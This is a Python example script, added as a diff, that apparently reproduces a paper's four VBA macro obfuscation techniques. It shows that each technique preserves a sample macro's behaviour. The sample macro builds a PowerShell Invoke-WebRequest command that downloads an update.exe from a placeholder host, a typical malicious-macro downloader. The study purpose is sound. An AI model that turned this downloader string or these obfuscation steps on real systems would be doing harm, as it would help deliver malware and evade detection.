@@ -1,0 +1,83 @@
+"""Obfuscation playground: apply each O1–O4 technique and *prove* semantics.
+
+Shows every transform from the paper's Table I on the same macro and runs
+both versions in the bundled VBA interpreter to demonstrate the defining
+property of obfuscation: the behaviour is unchanged, only the text differs.
+
+Run with::
+
+    python examples/obfuscator_playground.py
+"""
+
+from __future__ import annotations
+
+from repro.obfuscation.base import make_context
+from repro.obfuscation.encode import StringEncoder
+from repro.obfuscation.logic import DummyCodeInserter
+from repro.obfuscation.pipeline import ObfuscationPipeline
+from repro.obfuscation.rename import RandomRenamer
+from repro.obfuscation.split import StringSplitter
+from repro.vba.interpreter import Interpreter, run_function
+
+# A pure-computation macro the interpreter can execute end to end.
+MACRO = (
+    "Function BuildCommand(host As String) As String\n"
+    "    Dim scheme As String\n"
+    "    Dim path As String\n"
+    '    scheme = "http://"\n'
+    '    path = "/downloads/update.exe"\n'
+    '    BuildCommand = "powershell -c Invoke-WebRequest " & scheme & host & path\n'
+    "End Function\n"
+)
+
+TRANSFORMS = (
+    ("O1 random (rename identifiers)", RandomRenamer()),
+    ("O2 split (divide strings)", StringSplitter()),
+    ("O3 encoding (encode strings)", StringEncoder()),
+    ("O4 logic (insert dummy code)", DummyCodeInserter()),
+)
+
+
+def entry_point_of(source: str) -> str:
+    """Find the (possibly renamed) one-argument function to call."""
+    interp = Interpreter.from_source(source)
+    for name, proc in interp.module.procedures.items():
+        if proc.kind == "function" and len(proc.params) == 1:
+            return proc.name
+    raise LookupError("no single-argument function found")
+
+
+def main() -> None:
+    expected = run_function(MACRO, "BuildCommand", "files.example.net")
+    print("original macro:")
+    print(MACRO)
+    print(f"original result: {expected!r}\n")
+
+    for title, transform in TRANSFORMS:
+        out = transform.apply(MACRO, make_context(99))
+        print("=" * 70)
+        print(title)
+        print("=" * 70)
+        print(out[:900] + ("…\n" if len(out) > 900 else ""))
+        got = run_function(out, entry_point_of(out), "files.example.net")
+        status = "IDENTICAL" if got == expected else f"DIFFERS: {got!r}"
+        print(f"interpreted result: {status}\n")
+        assert got == expected
+
+    print("=" * 70)
+    print("full pipeline (O2 -> O3 -> O1 -> O4)")
+    print("=" * 70)
+    combined = ObfuscationPipeline(
+        [StringSplitter(), StringEncoder(), RandomRenamer(), DummyCodeInserter()]
+    ).run(MACRO, seed=5)
+    print(f"{len(MACRO)} chars -> {len(combined.source)} chars")
+    got = run_function(
+        combined.source, entry_point_of(combined.source), "files.example.net"
+    )
+    print(f"interpreted result: {'IDENTICAL' if got == expected else 'DIFFERS'}")
+    assert got == expected
+    print("\nEvery transform preserved the macro's behaviour.")
+
+
+if __name__ == "__main__":
+    main()
